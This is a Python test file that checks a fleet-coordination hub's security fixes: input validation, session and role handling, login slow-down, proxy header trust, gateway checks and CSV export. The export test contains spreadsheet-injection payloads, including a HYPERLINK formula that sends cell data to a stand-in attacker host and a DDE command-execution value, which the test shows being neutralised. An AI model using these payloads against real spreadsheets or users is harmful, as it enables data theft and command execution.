"""Issue 12 replayed against a running hub, on SQLite and on PostgreSQL: each test is one finding
(or one part of it), and each failed on the code before the fix.

The world of these tests: the fleet of tests/conftest.py (grid G01: V1-V3, grid G02: V4-V5),
an admin, a coordinator of each grid (ca: G01, cb: G02) and a viewer.
"""

from __future__ import annotations

import asyncio
import json
import re
import threading
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Literal

import aiohttp
import pytest
from argon2 import PasswordHasher

from seaLink.clock import FakeClock
from seaLink.domain.roles import Role
from seaLink.runtime import Hub
from seaLink.services.auth import hash_password, use_password_hasher
from seaLink.settings import Settings
from seaLink.store import users
from tests.test_ingest import wait_for

ADMIN_PW = "sec-admin-pass-1"
PASSWORDS = {"ca": "coord-a-pass-1", "cb": "coord-b-pass-1", "view": "viewer-pass-1"}
GRIDS = {"ca": ["G01"], "cb": ["G02"], "view": []}
ROLES = {"ca": Role.COORDINATOR, "cb": Role.COORDINATOR, "view": Role.VIEWER}


@dataclass
class Site:
    hub: Hub
    base: str
    tokens: dict[str, str] = field(default_factory=dict)

    def auth(self, who: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[who]}"}

    async def login(
        self, s: aiohttp.ClientSession, who: str, password: str | None = None, frm: str = ""
    ) -> str:
        pw = password or (ADMIN_PW if who == "admin" else PASSWORDS[who])
        r = await self.try_login(s, who, pw, frm)
        assert r.status == 200, await r.text()
        self.tokens[who] = str((await r.json())["token"])
        return self.tokens[who]

    async def try_login(
        self, s: aiohttp.ClientSession, who: str, password: str, frm: str = ""
    ) -> aiohttp.ClientResponse:
        """A login; `frm`: the client's address as the trusted proxy (127.0.0.1) names it."""
        headers = {"X-Forwarded-For": f"{frm}"} if frm else {}
        r = await s.post(f"{self.base}/api/v1/auth/login", headers=headers,
                         json={"username": who, "password": password})  # fmt: skip
        await r.read()
        return r

    async def call(
        self, s: aiohttp.ClientSession, who: str | None, method: str, path: str, body: Any = None
    ) -> tuple[int, Any]:
        r = await s.request(
            method, self.base + path, headers=self.auth(who) if who else {}, json=body
        )
        text = await r.text()
        try:
            return r.status, json.loads(text)
        except ValueError:
            return r.status, text


def secure_settings(registered: Settings, **api: Any) -> Settings:
    return registered.model_copy(
        update={
            "admin_password": ADMIN_PW,
            "api": registered.api.model_copy(
                update={"login_rate_per_min": 1000, "trusted_proxies": ["127.0.0.1/32"], **api}
            ),
        }
    )


@pytest.fixture
async def site(registered: Settings) -> AsyncIterator[Site]:
    settings = secure_settings(registered)
    hub = Hub(settings, clock=FakeClock(datetime.now(UTC).replace(microsecond=0)))
    async with hub.running():
        now = hub.clock.now()
        for name, pw in PASSWORDS.items():
            await users.create_user(
                hub.db,
                username=name,
                password_hash=hash_password(pw),
                role=ROLES[name],
                grid_ids=GRIDS[name],
                now=now,
            )
        site = Site(hub, f"http://127.0.0.1:{settings.api.port}")
        async with aiohttp.ClientSession() as s:
            for name in ("admin", *PASSWORDS):
                await site.login(s, name)
        yield site


def training_body(target: dict[str, Any], now: datetime, **extra: Any) -> dict[str, Any]:
    return {
        "title": "消防演练",
        "study_pack": "灭火器使用方法",
        "target": target,
        "starts_at": (now + timedelta(days=2)).isoformat(),
        **extra,
    }


# --- 12.5: input no handler should see answers 400 JSON, never 500 -------------------------------

DEEP = b"[" * 100_000 + b"]" * 100_000
DEEP_OBJECT = b'{"a":' * 100_000 + b"1" + b"}" * 100_000


async def test_inputs_the_store_cannot_take_are_clean_400s_with_their_own_codes(site: Site) -> None:
    now = site.hub.clock.now()
    async with aiohttp.ClientSession() as s:
        status, created = await site.call(
            s, "admin", "POST", "/api/v1/trainings", training_body({"grids": ["G01"]}, now)
        )
        assert status == 201, created
        tid = created["id"]
        big = "9223372036854775807"
        # fmt: off
        cases: list[tuple[str, str, bytes | None, set[str]]] = [
            # (method, path, raw body, acceptable codes)
            ("POST", "/api/v1/auth/login", DEEP, {"too_deep"}),
            ("POST", "/api/v1/broadcasts", DEEP, {"too_deep"}),
            ("POST", "/api/v1/users", DEEP_OBJECT, {"too_deep"}),
            ("PATCH", "/api/v1/users/ca", DEEP, {"too_deep"}),
            ("POST", "/api/v1/trainings", DEEP_OBJECT, {"too_deep"}),
            ("POST", "/api/v1/auth/login", b'{"username": "\\ud800", "password": "x"}', {"bad_text"}),
            ("POST", "/api/v1/broadcasts", json.dumps({"kind": "notice", "title": "\ud800",
             "body": "x", "target": {"grids": ["G01"]}}).encode(), {"bad_text"}),
            ("POST", "/api/v1/trainings",
             json.dumps(training_body({"grids": ["G01"]}, now, title="消防\u0000演练")).encode(),
             {"bad_text"}),
            ("POST", "/api/v1/users", b'{"username": "nul", "password": "pass\\u0000word1",'
             b' "role": "viewer"}', {"bad_text"}),
            ("POST", "/api/v1/duty", b'{"grid_id": "G01\\u0000", "coordinator_id": "C01L",'
             b' "starts_at": "2030-01-01T00:00:00Z", "ends_at": "2030-01-02T00:00:00Z"}',
             {"bad_text"}),
            ("POST", "/api/v1/auth/login", b'{"username": "admin\x00", "password": "x"}',
             {"bad_text"}),
            ("POST", "/api/v1/broadcasts", b"\xff\xfe{}", {"bad_text"}),
            ("GET", "/api/v1/vessels/V1/track?since=0001-01-01T00:00:00%2B14:00", None,
             {"bad_query"}),
            ("GET", "/api/v1/vessels/V1/track?until=9999-12-31T23:59:59-14:00", None,
             {"bad_query"}),
            ("GET", f"/api/v1/trainings/{tid}/attendance?run=99999999999999999999999", None,
             {"bad_query"}),
            ("GET", f"/api/v1/trainings/{tid}/attendance?run={big}", None, {"bad_query"}),
            ("GET", f"/api/v1/trainings/{big}", None, {"not_found"}),
            ("GET", f"/api/v1/alerts/{big}", None, {"not_found"}),
            ("GET", f"/api/v1/incidents/{big}", None, {"not_found"}),
            ("GET", f"/api/v1/broadcasts/{big}", None, {"not_found"}),
            ("GET", f"/api/v1/requests/{big}", None, {"not_found"}),
            ("GET", "/api/v1/trainings/2147483648/attendance", None, {"not_found"}),
            ("GET", "/api/v1/vessels?grid=G01%00", None, {"bad_text"}),
            ("GET", "/api/v1/alerts?vessel=V1%00", None, {"bad_text"}),
            ("GET", "/api/v1/vessels/V1%00", None, {"bad_text"}),
            ("GET", "/api/v1/vessels/%ED%A0%80", None, {"bad_text", "not_found"}),
            ("PATCH", "/api/v1/users/ca%00", b'{"disabled": true}', {"bad_text"}),
            ("GET", "/api/v1/requests?state=open%00", None, {"bad_text"}),
        ]
        # fmt: on
        failed = []
        for method, path, body, codes in cases:
            r = await s.request(
                method,
                site.base + path,
                data=body,
                headers={**site.auth("admin"), "Content-Type": "application/json"},
            )
            text = await r.text()
            ok = 400 <= r.status < 500 and r.content_type == "application/json"
            answer = json.loads(text) if ok else {}
            if not ok or answer.get("error") not in codes or "request_id" not in answer:
                failed.append(f"{method} {path[:70]} -> {r.status} {r.content_type} {text[:120]}")
        assert not failed, "\n".join(failed)
        # Nothing was stored and the hub still answers.
        status, listed = await site.call(s, "admin", "GET", "/api/v1/trainings")
        assert status == 200 and listed["count"] == 1
        status, _ = await site.call(s, "admin", "GET", "/healthz")
        assert status == 200


# --- 12.3: a coordinator's training reaches his grids only ----------------------------------------


async def test_a_coordinators_training_start_notice_goes_only_to_his_grids(site: Site) -> None:
    now = site.hub.clock.now()
    async with aiohttp.ClientSession() as s:
        body = training_body({"all": True}, now, title="救生衣检查")
        status, created = await site.call(s, "ca", "POST", "/api/v1/trainings", body)
        assert status == 201, created
        assert created["grids"] == ["G01"]
        study = created["study_broadcast_id"]
        # The occurrence starts (the scheduler's job calls the same method).
        run_id = await site.hub.training.run(created["id"])
        assert run_id is not None
        status, t = await site.call(s, "admin", "GET", f"/api/v1/trainings/{created['id']}")
        [run] = t["runs"]
        assert "creator_role" not in t and "creator_grids" not in t
        for bid in (study, run["broadcast_id"]):
            status, b = await site.call(s, "admin", "GET", f"/api/v1/broadcasts/{bid}?deliveries=1")
            assert status == 200, b
            reached = {d["vessel_id"] for d in b["deliveries"]}
            assert reached == {"V1", "V2", "V3"}, f"broadcast {bid} reached {sorted(reached)}"
            assert b["broadcast"]["created_by"] == "ca"
        # An admin's training for every boat still reaches every grid.
        status, created = await site.call(s, "admin", "POST", "/api/v1/trainings", body)
        assert status == 201 and created["grids"] == ["G01", "G02"]
        run_id = await site.hub.training.run(created["id"])
        status, t = await site.call(s, "admin", "GET", f"/api/v1/trainings/{created['id']}")
        bid = t["runs"][0]["broadcast_id"]
        status, b = await site.call(s, "admin", "GET", f"/api/v1/broadcasts/{bid}?deliveries=1")
        assert {d["vessel_id"] for d in b["deliveries"]} == {"V1", "V2", "V3", "V4", "V5"}


async def test_a_database_made_before_the_creator_scope_gets_its_columns_and_a_narrow_scope(
    clean_store: str,
) -> None:
    from alembic import command
    from sqlalchemy import inspect, text

    from seaLink.services.training import creator_scope
    from seaLink.store import schema
    from seaLink.store.db import Database
    from seaLink.store.schema import SchemaError

    db = Database(clean_store)
    try:
        await db.drop_all()
        async with db.engine.begin() as conn:
            # The first release's tables (revision 0001), as create_all made them before migrations.
            await conn.run_sync(lambda c: command.upgrade(schema.alembic_config(c), "0001"))
            for column in ("creator_role", "creator_grids"):
                await conn.execute(text(f"ALTER TABLE training DROP COLUMN {column}"))
            # A column that must have a value (with a default in the code), on a table with rows.
            await conn.execute(text("ALTER TABLE user_account DROP COLUMN failed_logins"))
            await conn.execute(text(
                "INSERT INTO user_account (username, password_hash, role, display_name, grid_ids,"
                " disabled, created_at) VALUES ('old', 'x', 'viewer', '', '', false,"
                " CURRENT_TIMESTAMP)"
            ))  # fmt: skip
            await conn.execute(text("DROP TABLE alembic_version"))  # made before migrations
        with pytest.raises(SchemaError, match="sealink db upgrade"):
            await db.create_all()  # a newer hub will not start on it ...
        await db.upgrade(report=lambda _: None)  # ... until `sealink db upgrade` adopted it
        await db.create_all()
        async with db.engine.connect() as conn:
            columns = await conn.run_sync(
                lambda c: {x["name"] for x in inspect(c).get_columns("training")}
            )
            failed = (
                await conn.execute(text("SELECT failed_logins FROM user_account"))
            ).scalar_one()
        assert {"creator_role", "creator_grids"} <= columns
        assert failed == 0
    finally:
        await db.dispose()
    legacy = {"created_by": "admin", "creator_role": None, "creator_grids": None, "grid_ids": "G02"}
    who = creator_scope(legacy)
    assert who.role is Role.COORDINATOR and who.grid_ids == {"G02"}


# --- 12.4: accounts and sessions ----------------------------------------------------------------


async def test_two_admins_demoting_each_other_at_once_leave_an_admin(site: Site) -> None:
    async with aiohttp.ClientSession() as s:
        body = {"username": "admin2", "password": "admin2-pass-1", "role": "admin"}
        status, answer = await site.call(s, "admin", "POST", "/api/v1/users", body)
        assert status == 201, answer
        demote = {"role": "coordinator", "grids": ["G01"]}
        for round_ in range(3):
            await site.login(s, "admin")
            await site.login(s, "admin2", "admin2-pass-1")
            results = await asyncio.gather(
                site.call(s, "admin", "PATCH", "/api/v1/users/admin2", demote),
                site.call(s, "admin2", "PATCH", "/api/v1/users/admin", demote),
            )
            statuses = sorted(r[0] for r in results)
            # One wins; the other is refused as the last admin, or its token already ended with
            # the role change the winner made.
            assert statuses in ([200, 401], [200, 409]), f"round {round_}: {results}"
            listed = await users.list_users(site.hub.db)
            admins = [u["username"] for u in listed if u["role"] == "admin"]
            assert len(admins) == 1, f"round {round_}: admins {admins}"
            # The one left makes the other an admin again for the next round.
            left = admins[0]
            other = "admin2" if left == "admin" else "admin"
            status, _ = await site.call(s, left, "PATCH", f"/api/v1/users/{other}",
                                        {"role": "admin"})  # fmt: skip
            assert status == 200


async def test_sessions_end_at_logout_password_change_disable_and_enable(site: Site) -> None:
    async with aiohttp.ClientSession() as s:
        me = "/api/v1/auth/me"
        first = await site.login(s, "ca")
        second = await site.login(s, "ca")
        site.tokens["ca"] = first
        status, _ = await site.call(s, "ca", "POST", "/api/v1/auth/logout", {})
        assert status == 200
        assert (await site.call(s, "ca", "GET", me))[0] == 401
        site.tokens["ca"] = second  # the other session goes on
        assert (await site.call(s, "ca", "GET", me))[0] == 200
        # A viewer, who may change nothing, may still end his own session.
        assert (await site.call(s, "view", "POST", "/api/v1/auth/logout", {}))[0] == 200
        assert (await site.call(s, "view", "GET", me))[0] == 401

        new_pw = "coord-a-new-pass"
        status, _ = await site.call(s, "admin", "PATCH", "/api/v1/users/ca", {"password": new_pw})
        assert status == 200
        assert (await site.call(s, "ca", "GET", me))[0] == 401, "a token outlived a new password"
        await site.login(s, "ca", new_pw)
        assert (await site.call(s, "admin", "PATCH", "/api/v1/users/ca", {"disabled": True}))[
            0
        ] == 200
        assert (await site.call(s, "ca", "GET", me))[0] == 401
        assert (await site.call(s, "admin", "PATCH", "/api/v1/users/ca", {"disabled": False}))[
            0
        ] == 200
        assert (await site.call(s, "ca", "GET", me))[0] == 401, "a token came back with the enable"
        # The CLI's password change (`sealink user passwd`) ends sessions too.
        await site.login(s, "ca", new_pw)
        await users.set_password(site.hub.db, "ca", hash_password("coord-a-third-pass"))
        assert (await site.call(s, "ca", "GET", me))[0] == 401


async def test_only_a_grids_own_people_go_on_its_duty_roster(site: Site) -> None:
    now = site.hub.clock.now()
    later = (now + timedelta(hours=8)).isoformat()

    def shift(grid: str, coordinator: str, backup: str | None = None) -> dict[str, Any]:
        return {"grid_id": grid, "coordinator_id": coordinator, "backup_id": backup,
                "starts_at": now.isoformat(), "ends_at": later}  # fmt: skip

    async with aiohttp.ClientSession() as s:
        refused = [
            ("ca", shift("G01", "C02L"), 400, "not_in_grid"),  # grid B's worker on grid A
            ("ca", shift("G01", "C01L", "C02L"), 400, "not_in_grid"),
            ("ca", shift("G01", "NOBODY"), 400, "not_in_grid"),
            ("admin", shift("G99", "C01L"), 400, "unknown_grid"),
            ("ca", shift("G02", "C02L"), 403, "forbidden"),
        ]
        for who, body, want, code in refused:
            status, answer = await site.call(s, who, "POST", "/api/v1/duty", body)
            assert (status, answer.get("error")) == (want, code), (who, body, answer)
        assert (await site.call(s, "admin", "GET", "/api/v1/duty"))[1]["shifts"] == []
        status, answer = await site.call(s, "ca", "POST", "/api/v1/duty", shift("G01", "C01L"))
        assert status == 201, answer


def _refusal(r: aiohttp.ClientResponse, body: bytes) -> tuple[int, str, str]:
    answer = json.loads(body)
    return r.status, answer["error"], answer["message"]


async def test_failed_logins_slow_the_attacker_not_the_owner_and_tell_no_names(site: Site) -> None:
    clock = site.hub.clock
    assert isinstance(clock, FakeClock)
    attacker, owner = "203.0.113.7", "198.51.100.20"
    async with aiohttp.ClientSession() as s:
        answers: dict[str, list[tuple[int, str, str]]] = {}
        for name in ("ca", "ghost"):  # an account, and a name nobody has
            answers[name] = []
            for _ in range(5):
                r = await site.try_login(s, name, "wrong-password", attacker)
                answers[name].append(_refusal(r, await r.read()))
            r = await site.try_login(s, name, PASSWORDS.get(name, "x"), attacker)
            answers[name].append(_refusal(r, await r.read()))
            assert r.headers["Retry-After"] == "1"
        assert answers["ca"] == answers["ghost"], "the answers tell which names exist"
        assert [a[0] for a in answers["ca"]] == [401] * 5 + [429]
        assert answers["ca"][-1][1] == "slow_down"
        # The owner, elsewhere, logs in at once: the attacker cannot lock him out.
        await site.login(s, "ca", frm=owner)
        # The attacker waits longer after each further failure: 1 s, 2 s, 4 s ...
        waits = []
        for _ in range(3):
            clock.advance(timedelta(seconds=int(waits[-1]) if waits else 1))
            r = await site.try_login(s, "ca", "wrong-password", attacker)
            assert r.status == 401
            r = await site.try_login(s, "ca", "wrong-password", attacker)
            assert r.status == 429
            waits.append(r.headers["Retry-After"])
        assert waits == ["2", "4", "8"]
        # Once the wait is over, the right password works from there too.
        clock.advance(timedelta(seconds=8))
        await site.login(s, "ca", frm=attacker)
        # Every login, failure and slow-down is in the audit log, with the address.
        _, audit = await site.call(s, "admin", "GET", "/api/v1/audit")
        actions = [(e["action"], e["username"]) for e in audit["audit"]]
        assert ("auth.login_failed", "ghost") in actions
        assert ("auth.slowed", "ca") in actions and ("auth.slowed", "ghost") in actions
        assert ("auth.login", "ca") in actions
        failed = [e for e in audit["audit"] if e["action"] == "auth.login_failed"]
        assert all(e["detail"] == f"from {attacker}" for e in failed)
        assert not [e for e in audit["audit"] if "wrong-password" in json.dumps(e)]


async def test_a_name_that_does_not_exist_is_refused_as_slowly_as_a_wrong_password(
    standard_password_hashing: None, site: Site
) -> None:
    import statistics
    import time

    samples: dict[str, list[float]] = {"ca": [], "ghost": [], "disabled": []}
    async with aiohttp.ClientSession() as s:
        body = {"username": "disabled", "password": "disabled-pass-1", "role": "viewer"}
        assert (await site.call(s, "admin", "POST", "/api/v1/users", body))[0] == 201
        assert (await site.call(s, "admin", "PATCH", "/api/v1/users/disabled",
                                {"disabled": True}))[0] == 200  # fmt: skip
        for i in range(7):
            for name in samples:  # interleaved: the machine's load falls on each alike
                started = time.perf_counter()
                r = await site.try_login(s, name, "wrong-password", f"192.0.2.{i + 1}")
                samples[name].append(time.perf_counter() - started)
                assert r.status == 401
    median = {name: statistics.median(times) for name, times in samples.items()}
    for name in ("ghost", "disabled"):
        assert 0.4 < median[name] / median["ca"] < 2.5, median


async def test_a_login_checks_the_password_off_the_event_loop(site: Site) -> None:
    """At the standard cost argon2 takes ~0.15 s of CPU: on the loop, every login (or a
    guessing attacker) would hold up ingest and distress alerts that long."""
    checked_on: list[int] = []

    class Recording(PasswordHasher):
        def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
            checked_on.append(threading.get_ident())
            return super().verify(hash, password)

    previous = use_password_hasher(Recording(time_cost=1, memory_cost=8, parallelism=1))
    try:
        async with aiohttp.ClientSession() as s:
            assert (await site.try_login(s, "ca", "wrong-password", "192.0.2.77")).status == 401
            assert (await site.try_login(s, "ghost", "any-password", "192.0.2.78")).status == 401
            assert (await site.try_login(s, "ca", PASSWORDS["ca"], "192.0.2.79")).status == 200
    finally:
        use_password_hasher(previous)
    assert len(checked_on) == 3
    assert threading.get_ident() not in checked_on


async def test_behind_a_trusted_proxy_each_client_has_its_own_login_rate(
    registered: Settings,
) -> None:
    settings = secure_settings(registered, login_rate_per_min=3)
    hub = Hub(settings, clock=FakeClock(datetime.now(UTC).replace(microsecond=0)))
    async with hub.running(), aiohttp.ClientSession() as s:
        site = Site(hub, f"http://127.0.0.1:{settings.api.port}")
        for _ in range(3):
            assert (await site.try_login(s, "nobody", "x", "198.51.100.7")).status == 401
        r = await site.try_login(s, "admin", ADMIN_PW, "198.51.100.7")
        assert r.status == 429 and (await r.json())["error"] == "too_many_attempts"
        # Another office behind the same proxy is not held up by that one.
        await site.login(s, "admin", frm="198.51.100.8")


def test_x_forwarded_for_counts_only_from_a_trusted_proxy() -> None:
    from aiohttp.test_utils import make_mocked_request

    from seaLink.api.security import client_address, trusted_networks

    def address(peer: str, xff: str | None, trusted: list[str]) -> str:
        headers = {"X-Forwarded-For": xff} if xff is not None else {}
        request = make_mocked_request("POST", "/api/v1/auth/login", headers=headers)
        request._transport_peername = (peer, 40000)  # type: ignore[attr-defined]
        return client_address(request.clone(remote=peer), trusted_networks(trusted))

    proxy = ["10.0.0.2", "fd00::/64"]
    assert address("203.0.113.9", "1.2.3.4", []) == "203.0.113.9"
    assert address("203.0.113.9", "1.2.3.4", proxy) == "203.0.113.9"  # not from the proxy
    assert address("10.0.0.2", "198.51.100.1", proxy) == "198.51.100.1"
    # A client's own forged entry is at the left: the proxy's appended one counts.
    assert address("10.0.0.2", "1.1.1.1, 198.51.100.1", proxy) == "198.51.100.1"
    assert address("fd00::5", "198.51.100.1, 10.0.0.2", proxy) == "198.51.100.1"
    assert address("10.0.0.2", None, proxy) == "10.0.0.2"
    assert address("10.0.0.2", "not-an-address", proxy) == "10.0.0.2"


# --- 12.4: a gateway speaks only for the link it serves ------------------------------------------


async def test_an_ais_gateway_cannot_raise_a_beidou_distress(site: Site) -> None:
    from sqlalchemy import update

    from seaLink.store import queries
    from seaLink.store.tables import Vessel
    from tests.vessel_client import TestVessel, announce_gateway

    hub = site.hub
    prefix = hub.settings.mqtt.prefix
    async with hub.db.engine.begin() as conn:
        await conn.execute(update(Vessel).where(Vessel.id == "V1").values(beidou_card="166166"))  # type: ignore[arg-type]
    await hub.registry.load()

    def rx(rx_id: str) -> str:
        distress = {"distress_id": rx_id, "ts": hub.clock.now().isoformat(), "lat": 23.3,
                    "lon": 117.6, "nature": "fire", "persons": 4}  # fmt: skip
        return json.dumps({"rx_id": rx_id, "card": "166166", "ts": hub.clock.now().isoformat(),
                           "kind": "distress", "family": "4.0", "distress": distress})  # fmt: skip

    async def distresses() -> list[dict[str, Any]]:
        async with aiohttp.ClientSession() as s:
            alerts = (await site.call(s, "admin", "GET", "/api/v1/alerts"))[1]["alerts"]
        return [a for a in alerts if a["type"] == "distress"]

    pub = TestVessel(hub.settings.mqtt.url, "gw-ais-1", prefix=prefix)
    try:
        announce_gateway(pub, prefix, "ais-1", "ais")
        pub.publish_raw(f"{prefix}/gateways/ais-1/beidou/rx", rx("r1"))  # the AIS gateway's account
        # It cannot become a Beidou gateway by saying so, and a gateway nobody knows is refused.
        announce_gateway(pub, prefix, "ais-1", "beidou")
        pub.publish_raw(f"{prefix}/gateways/ais-1/beidou/rx", rx("r2"))
        pub.publish_raw(f"{prefix}/gateways/nobody/beidou/rx", rx("r3"))
        pub.publish_raw(f"{prefix}/gateways/nobody/ais", "[]")

        async def refused() -> bool:
            return (await queries.dead_letter_counts(hub.db)).get("wrong_gateway", 0) >= 5

        await wait_for(refused, timeout=20)
        await hub.drained()
        assert await distresses() == []
        # The real Beidou gateway's message raises the distress (the check is the gateway's kind).
        announce_gateway(pub, prefix, "bd-1", "beidou")
        pub.publish_raw(f"{prefix}/gateways/bd-1/beidou/rx", rx("r4"))

        async def raised() -> bool:
            return len(await distresses()) == 1

        await wait_for(raised, timeout=20)
        assert (await distresses())[0]["vessel_id"] == "V1"
        assert (await queries.dead_letter_counts(hub.db)) == {"wrong_gateway": 5}
    finally:
        pub.close()


def test_gateways_bound_in_the_settings_keep_their_kind_whatever_they_announce() -> None:
    from seaLink.links.mqtt_link import RawUplink
    from seaLink.metrics import HubMetrics
    from seaLink.services.gateway_uplinks import GatewayUplinks
    from seaLink.services.registry import RegistryCache
    from seaLink.services.uplink_steps import Refused as RefusedVerdict
    from seaLink.settings import GatewaySettings, gateway_kinds
    from seaLink.wire.topics import Topics

    kinds = gateway_kinds(GatewaySettings(ais_ids=["ais-1"], beidou_ids=["bd-1"]))
    gw = GatewayUplinks(RegistryCache(None), Topics("p/v1"), HubMetrics(), kinds)  # type: ignore[arg-type]

    def verdicts(topic: str, payload: dict[str, Any] | list[Any]) -> list[Any]:
        raw = RawUplink(f"p/v1/gateways/{topic}", json.dumps(payload).encode(), 1, 1, False,
                        None, 0.0, 1)  # fmt: skip
        parsed = gw.parse_topic(raw.topic)
        assert parsed is not None
        return gw.classify(raw, parsed, datetime.now(UTC))

    [refused] = verdicts(
        "ais-1/status", {"gateway_id": "ais-1", "kind": "beidou", "state": "online"}
    )
    assert isinstance(refused, RefusedVerdict) and refused.rejection.reason == "wrong_gateway"
    assert "ais-1" not in gw.status
    [refused] = verdicts("bd-1/ais", [])  # listed as Beidou: no AIS from it, status or not
    assert isinstance(refused, RefusedVerdict)
    assert verdicts("ais-1/ais", []) == []
    with pytest.raises(Exception, match="both AIS and Beidou"):
        gateway_kinds(GatewaySettings(ais_ids=["g"], beidou_ids=["g"]))


# --- 12.6: the live stream, requests, SITREPs, exports, headers, files, logs, shutdown ------------


async def test_the_live_stream_shows_a_coordinator_only_his_grids_figures(site: Site) -> None:
    hub = site.hub
    got: dict[str, list[dict[str, Any]]] = {"ca": [], "admin": []}
    async with aiohttp.ClientSession() as s:
        sockets = {}
        for who in got:
            url = f"{site.base}/api/v1/events?token={site.tokens[who]}"
            sockets[who] = await s.ws_connect(url)
            assert (await sockets[who].receive_json(timeout=10))["type"] == "hello"
        progress = {
            "broadcast_id": 7, "grid_ids": ["G01", "G02"], "total": 5, "done": 3,
            "states": {"acknowledged": 3, "queued": 2},
            "grids": [
                {"grid_id": "G01", "total": 3, "done": 2,
                 "states": {"acknowledged": 2, "queued": 1}},
                {"grid_id": "G02", "total": 2, "done": 1,
                 "states": {"acknowledged": 1, "queued": 1}},
            ],
        }  # fmt: skip
        recall = {
            "broadcast_id": 8, "grid_ids": ["G01", "G02"], "at": "2026-01-01T00:00:00Z",
            "total": {"total": 5, "unaccounted": 4, "in_port": 1},
            "grids": [{"grid_id": "G01", "total": 3, "unaccounted": 3, "in_port": 0},
                      {"grid_id": "G02", "total": 2, "unaccounted": 1, "in_port": 1}],
        }  # fmt: skip
        hub.events.publish("broadcast_progress", progress)
        hub.events.publish("recall", recall)
        hub.events.publish("broadcast_progress", progress | {"broadcast_id": 9, "grid_ids": ["G02"],
                           "grids": progress["grids"][1:]})  # fmt: skip
        hub.events.publish("incident_log", {"incident_id": 1, "grid_ids": [], "text": "无网格"})
        hub.events.publish("gateway_note", {"text": "no grid at all"})
        hub.events.publish("request", {"request_pk": 99, "grid_id": "G01", "action": "received"})
        for who, ws in sockets.items():
            while True:
                frame = await ws.receive_json(timeout=10)
                got[who].append(frame)
                if frame["type"] == "request":
                    break
            await ws.close()
    ca = {f["type"] + str(f["data"].get("broadcast_id", "")): f["data"] for f in got["ca"]}
    assert set(ca) == {"broadcast_progress7", "recall8", "request"}, list(ca)
    seen = ca["broadcast_progress7"]
    assert seen["grid_ids"] == ["G01"] and [g["grid_id"] for g in seen["grids"]] == ["G01"]
    assert (seen["total"], seen["done"], seen["states"]) == (3, 2, {"acknowledged": 2, "queued": 1})
    assert ca["recall8"]["total"] == {"total": 3, "unaccounted": 3, "in_port": 0}
    assert "G02" not in json.dumps(got["ca"])
    # An admin sees every grid's figures, and the events of no grid.
    assert len(got["admin"]) == 6
    assert got["admin"][0]["data"]["total"] == 5


async def _distress_and_request(site: Site) -> tuple[int, int]:
    """V1 (G01) sends a distress and a request; their incident and request ids."""
    from tests.test_broadcasts import online

    hub = site.hub
    assert isinstance(hub.clock, FakeClock)
    v = online(hub, "V1", hub.clock)
    now = hub.clock.now().isoformat()
    try:
        v.publish("distress", {"distress_id": "d1", "ts": now, "lat": 23.1, "lon": 117.55,
                               "nature": "flooding", "persons": 5, "text": "机舱进水"})  # fmt: skip
        v.publish("request", {"request_id": "r1", "ts": now, "category": "equipment",
                              "text": "雷达故障"})  # fmt: skip
        found: dict[str, int] = {}

        async def both() -> bool:
            async with aiohttp.ClientSession() as s:
                alerts = (await site.call(s, "admin", "GET", "/api/v1/alerts"))[1]["alerts"]
                reqs = (await site.call(s, "admin", "GET", "/api/v1/requests"))[1]["requests"]
            for a in alerts:
                if a["type"] == "distress" and a.get("incident_id"):
                    found["incident"] = a["incident_id"]
            if reqs:
                found["request"] = reqs[0]["id"]
            return len(found) == 2

        await wait_for(both, timeout=20)
    finally:
        v.close()
    return found["incident"], found["request"]


async def test_requests_go_only_to_people_of_their_grid_and_sitreps_are_audited(
    site: Site,
) -> None:
    iid, rid = await _distress_and_request(site)
    async with aiohttp.ClientSession() as s:
        body = {"username": "off", "password": "off-pass-12", "role": "coordinator",
                "grids": ["G01"]}  # fmt: skip
        assert (await site.call(s, "admin", "POST", "/api/v1/users", body))[0] == 201
        assert (await site.call(s, "admin", "PATCH", "/api/v1/users/off", {"disabled": True}))[
            0
        ] == 200
        path = f"/api/v1/requests/{rid}/assign"
        for name in ("cb", "view", "nobody", "off", '=HYPERLINK("x")'):
            status, answer = await site.call(s, "ca", "POST", path, {"username": name})
            assert (status, answer["error"]) == (400, "bad_assignee"), (name, answer)
        for name in ("ca", "admin"):
            status, answer = await site.call(s, "ca", "POST", path, {"username": name})
            assert status == 200 and answer["assigned_to"] == name
        status, answer = await site.call(s, "ca", "POST", f"/api/v1/incidents/{iid}/sitrep", {})
        assert status == 201
        _, audit = await site.call(s, "admin", "GET", "/api/v1/audit")
        sitreps = [e for e in audit["audit"] if e["action"] == "incident.sitrep"]
        assert [(e["username"], e["target"]) for e in sitreps] == [("ca", f"incident/{iid}")]


def test_the_attendance_export_never_hands_a_spreadsheet_a_formula() -> None:
    import csv
    import io

    from seaLink.services.training import attendance_csv

    evil = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
    report = {"vessels": [{"run_id": 1, "occurrence": "2026-01-01T00:00:00+00:00",
                           "grid_id": "G01", "vessel_id": "V1", "hull_name": "=cmd|' /C calc'!A0",
                           "attended": True, "crew": [*evil, "陈海生"], "score": 100,
                           "passed": True}]}  # fmt: skip
    rows = list(csv.reader(io.StringIO(attendance_csv(report))))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[1][6] == "'" + evil[0] and rows[-1][6] == "陈海生"
    assert rows[1][4] == "'=cmd|' /C calc'!A0"


async def test_every_answer_carries_the_security_headers_and_only_console_files_are_served(
    site: Site,
) -> None:
    want = {
        "X-Frame-Options": "DENY",
        "X-Content-Type-Options": "nosniff",
        "Referrer-Policy": "no-referrer",
    }
    async with aiohttp.ClientSession() as s:
        answers = {}
        for path, who in (("/console/", None), ("/console/js/main.js", None),
                          ("/api/v1/vessels", "admin"), ("/api/v1/nothing-here", "admin"),
                          ("/healthz", None), ("/api/v1/vessels", None)):  # fmt: skip
            r = await s.get(site.base + path, headers=site.auth(who) if who else {})
            await r.read()
            answers[path, who] = r
            for name, value in want.items():
                assert r.headers.get(name) == value, (path, name, dict(r.headers))
            csp = r.headers["Content-Security-Policy"]
            assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
            assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
            server = r.headers.get("Server", "")
            assert "Python" not in server and "aiohttp" not in server, server
